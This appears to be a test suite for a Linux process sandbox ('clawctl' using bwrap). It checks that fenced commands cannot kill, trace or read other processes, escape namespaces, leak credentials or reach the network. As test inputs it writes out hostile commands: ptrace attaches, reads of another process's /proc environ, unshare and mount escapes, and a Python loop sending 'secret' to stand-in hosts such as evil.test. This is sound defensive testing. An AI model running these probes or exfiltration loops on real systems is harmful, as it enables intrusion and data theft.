/** Processes: nobody outside is signalled or traced, nothing inside outlives its fence, and exit codes are passed on. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'bun:test';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { landlockAbi } from '../src/os/landlock.ts';
import { createPerson, type Person, python, USERS, whyNoFence } from './rig/person.ts';
import { until } from './rig/witness.ts';
import { inRig, openWorld, type World } from './rig/world.ts';

const reason = await whyNoFence();
if (reason !== null) console.warn(`skipped: no fence can be built here: ${reason}`);

const parentOf = (pid: number) =>
  Number(/^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'latin1'))![1]);
const wordsOf = (pid: number | string) => readFileSync(`/proc/${pid}/cmdline`, 'latin1').split('\0');

/** Processes whose arguments hold a text. */
function processesWith(text: string): number[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map(Number)
    .filter((pid) => {
      try {
        return wordsOf(pid).some((word) => word.includes(text));
      } catch {
        return false; // ended
      }
    });
}

/** A command that writes to `child` for ever, and to `grandchild` its grandchild, which has left session and group. */
const beating = (mark: string) =>
  python(`
# ${mark}
import os, time
def beat(name):
  for each in range(10**6):
    with open(name, "w") as f: f.write(str(each))
    time.sleep(0.01)
if os.fork() == 0:
  os.setsid()
  if os.fork() == 0: beat("grandchild")
  os._exit(0)
beat("child")`);

describe.skipIf(reason !== null).each([...USERS])('as %s', (user) => {
  let person: Person;
  beforeEach(() => {
    person = createPerson(user);
  });
  afterEach(() => {
    for (const pid of processesWith(mark)) process.kill(pid, 'SIGKILL');
    person.leave();
  });
  /** Names what these tests start, wherever it went. */
  const mark = `mark-${crypto.randomUUID()}`;
  const inWorkspace = (name: string) => join(person.workspace, name);
  /** Whether a file is written to for a while from now on. */
  const beats = (name: string) => {
    const before = statSync(inWorkspace(name)).mtimeMs;
    return until(() => statSync(inWorkspace(name)).mtimeMs > before, 500);
  };

  test('a signal to its own group, or to everybody, reaches nobody outside', async () => {
    const around = (script: string) => `setsid sh -c 'sh -c "${script}"; echo survived'`;
    expect((await person.unfenced(around('kill -KILL 0'))).out).toBe('');
    // In a session of its own: where this fails, these tests shall live to tell.
    const fenced = async (script: string) => {
      const words = ['setsid', '--wait', ...person.command(script, { flags: [] })];
      const child = Bun.spawn(words, {
        cwd: person.workspace,
        env: person.environment,
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      const [out, err] = [child.stdout, child.stderr].map((stream) => new Response(stream).text());
      return { code: await child.exited, out: await out, err: await err };
    };
    const group = await fenced('kill -KILL 0');
    expect(group.code).toBe(137);
    const all = await fenced('kill -KILL -1; echo alive');
    expect([all.code, all.out]).toEqual([0, 'alive\n']);
    for (const { err } of [group, all]) expect(err).toContain('sh made 0 requests'); // clawctl lived to tell
  });

  test('another process of the same user is not signalled, traced or read', async () => {
    const victim = Bun.spawn([...person.command(null), 'sleep', '60'], { env: person.environment });
    const { pid } = victim;
    await until(() => wordsOf(pid)[0] === 'sleep');
    const attacks = {
      signal: `kill -CONT ${pid} && echo OUT`,
      trace: python(`
import ctypes
if ctypes.CDLL(None).ptrace(0x4206, ${pid}, 0, 0) == 0: print("OUT")`),
      memory: `cat /proc/${pid}/maps | grep -q sleep && echo OUT`,
      files: `[ -e /proc/${pid}/root/etc ] && echo OUT`,
      environment: `grep -qz HOME /proc/${pid}/environ && echo OUT`,
    };
    for (const [title, attack] of Object.entries(attacks)) {
      expect([title, (await person.unfenced(attack)).out]).toEqual([title, 'OUT\n']);
      expect([title, (await person.fenced(attack)).out]).toEqual([title, '']);
    }
    victim.kill();
    await victim.exited;
  });

  // Elsewhere it can be looked at: it has the fence's own namespaces, no capability and nothing of ours to show.
  test.skipIf(landlockAbi() < 6)(
    'the first process inside, which is bwrap, gives nothing away and obeys nobody',
    async () => {
      const look = (pid: string) =>
        ['environ', 'maps', 'mem', 'fd/0', 'root/etc', 'cwd/', 'ns/user']
          .map(
            (name) =>
              `ls -L /proc/${pid}/${name} >/dev/null 2>&1 && head -c1 /proc/${pid}/${name} >/dev/null 2>&1 && echo ${name}`,
          )
          .join('; ');
      const own = (await person.unfenced(look('$$'))).out;
      expect(own).toContain('environ');
      expect((await person.fenced(look('1'))).out).toBe('');
      const { code, out } = await person.fenced('kill -9 1; kill -STOP 1; kill -TERM 1; echo alive');
      expect([code, out]).toEqual([0, 'alive\n']);
      const { out: words } = await person.fenced("tr '\\0' ' ' < /proc/1/cmdline");
      for (const secret of [person.state, person.config]) expect(words).not.toContain(secret);
    },
  );

  test('only processes of the fence are seen', async () => {
    const count = `ls /proc | grep -c '^[0-9]'`;
    expect(Number((await person.fenced(count)).out)).toBeLessThan(8);
    expect(Number((await person.unfenced(count)).out)).toBeGreaterThan(8);
  });

  test('a grandchild that has left session and group ends with the command', async () => {
    const script = `${beating(mark)} & until [ -s child ] && [ -s grandchild ]; do sleep 0.02; done; exit 3`;
    const { code } = await person.fenced(script);
    expect(code).toBe(3);
    expect(await beats('grandchild')).toBe(false);
    const left = await person.unfenced(`${script.replace('&', '>/dev/null 2>&1 &')}`);
    expect(left.code).toBe(3);
    expect(await beats('grandchild')).toBe(true);
  });

  test('everything inside ends when clawctl is killed', async () => {
    const run = person.start(beating(mark));
    expect(await until(() => existsSync(inWorkspace('child')) && existsSync(inWorkspace('grandchild')))).toBe(
      true,
    );
    run.kill('SIGKILL');
    await run.exited;
    expect(await until(() => processesWith(mark).length === 0, 2_000)).toBe(true);
    for (const name of ['child', 'grandchild']) expect(await beats(name)).toBe(false);
  });

  test('everything inside ends when bwrap is killed, and clawctl says so', async () => {
    const run = person.start(beating(mark));
    expect(await until(() => existsSync(inWorkspace('grandchild')))).toBe(true);
    const bwrap = processesWith('/bwrap').find((pid) => parentOf(pid) === run.pid)!;
    process.kill(bwrap, 'SIGKILL');
    expect(await run.exited).toBe(137);
    for (const name of ['child', 'grandchild']) expect(await beats(name)).toBe(false);
  });

  test('exit codes and signals are passed on, ours are 125 to 127', async () => {
    const scripts: [string, number][] = [
      ...[
        ['exit 0', 0],
        ['exit 1', 1],
        ['exit 125', 125],
        ['exit 255', 255],
      ],
      ...[
        ['kill -TERM $$', 143],
        ['kill -KILL $$', 137],
        ['kill -HUP $$', 129],
        ['kill -SEGV $$', 139],
      ],
    ] as [string, number][];
    for (const [script, code] of scripts)
      expect([script, (await person.fenced(script)).code]).toEqual([script, code]);
    const code = async (...words: string[]) => (await person.egress(['run', '--quiet', ...words])).code;
    expect(await code('--', '/no/such/command')).toBe(127);
    expect(await code('--', '/etc/passwd')).toBe(126);
    expect(await code('--no-such-option', '--', 'true')).toBe(125);
  });

  test('a crash leaves no core file but in the workspace', async () => {
    const { code } = await person.fenced('cd ~ && ulimit -c unlimited; kill -SEGV $$');
    expect(code).toBe(139);
    expect(readdirSync(person.home)).toEqual([]);
  });

  test('what is given to clawctl alone does not reach the command', async () => {
    const environment = {
      ...{ CLAWCTL_ADMIN_TOKEN: 'secret', CLAWCTL_ENV_FOO: 'given-back', SSH_AUTH_SOCK: '/secret' },
      ...{ DBUS_SESSION_BUS_ADDRESS: 'secret', HTTPS_PROXY: 'http://secret', OPENAI_API_KEY: 'theirs' },
    };
    const show = 'env; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"';
    const { out, err } = await person.fenced(show, { environment });
    expect(out).not.toContain('secret');
    expect(out).toContain('OPENAI_API_KEY=theirs');
    expect(err).toContain('look like credentials: OPENAI_API_KEY');
    expect((await person.unfenced(show, { environment })).out).toContain('secret');
  });

  test('namespaces, mounts and capabilities are not to be had', async () => {
    const attacks = {
      namespaces: 'unshare --user --net true && echo OUT',
      'a second fence': 'bwrap --unshare-all --ro-bind / / true && echo OUT',
      mounts: 'unshare --user --map-root-user --mount sh -c "mount -t tmpfs x /mnt" && echo OUT',
    };
    for (const [title, attack] of Object.entries(attacks)) {
      expect([title, (await person.unfenced(attack)).out]).toEqual([title, 'OUT\n']);
      expect([title, (await person.fenced(attack)).out]).toEqual([title, '']);
    }
    const status = await person.fenced(
      'grep -E "Cap(Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp:" /proc/self/status',
    );
    expect(status.out.replace(/\s+/g, ' ')).toBe(
      'CapPrm: 0000000000000000 CapEff: 0000000000000000 CapBnd: 0000000000000000 CapAmb: 0000000000000000 NoNewPrivs: 1 Seccomp: 2 ',
    );
  });
});

describe.skipIf(!inRig || reason !== null)('at the moment when clawctl is killed', () => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld();
  });
  afterAll(() => {
    for (const pid of processesWith(mark)) process.kill(pid, 'SIGKILL');
    world.close();
  });

  const mark = `mark-${crypto.randomUUID()}`;
  const hammering = python(`
# ${mark}
import socket, os
where = [("203.0.113.66", 443), ("evil.test", 80), ("9.9.9.9", 53)]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for each in range(10**7):
  for place in where:
    try: u.sendto(b"secret", ("203.0.113.66", 443))
    except OSError: pass
    s = socket.socket(); s.settimeout(0.05)
    try: s.connect(place); s.sendall(b"secret")
    except OSError: pass
    s.close()
  if each == 3: open("hammering", "w").close()`);

  test('nothing gets out', async () => {
    const child = world.start('version: 1\n', ['sh', '-c', hammering]);
    expect(await until(() => existsSync(join(world.workspace, 'hammering')))).toBe(true);
    child.kill('SIGKILL');
    await child.exited;
    expect(await until(() => processesWith(mark).length === 0, 2_000)).toBe(true);
    expect(world.sink.arrivals).toEqual([]);
    expect(world.nameServer.questions).toEqual([]);
    const free = Bun.spawn(['sh', '-c', hammering], { cwd: world.workspace, env: world.environment });
    expect(await until(() => world.sink.arrivals.length > 0)).toBe(true);
    for (const pid of processesWith(mark)) process.kill(pid, 'SIGKILL');
    await free.exited;
  });
});
